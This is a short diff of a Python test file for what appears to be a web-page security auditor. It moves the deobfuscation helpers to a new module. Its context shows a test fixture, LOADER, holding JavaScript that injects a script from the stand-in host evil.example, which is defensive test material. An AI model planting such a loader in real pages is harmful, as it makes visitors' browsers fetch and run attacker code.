@@ -9,8 +9,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from auditor.dom.deobfuscate import MAX_DECODED, decode_script, unpack
 from auditor.heuristics.interface import fingerprint
-from auditor.heuristics.obfuscation import MAX_DECODED, decode_script, unpack
 from auditor.model import RequestType
 
 LOADER = ("var s=document.createElement('script');s.src='https://evil.example/x.js';"
